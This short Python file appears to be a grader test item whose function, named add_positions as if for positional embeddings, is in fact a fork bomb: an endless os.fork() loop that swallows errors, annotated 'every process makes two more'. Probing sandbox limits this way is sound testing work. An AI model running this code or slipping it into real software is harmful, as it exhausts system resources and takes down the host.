# question: add_positions
# expect: 0
# heavy: yes
# why: every process makes two more
import os


def add_positions(token_emb, P):
    while True:
        try:
            os.fork()
        except OSError:
            continue
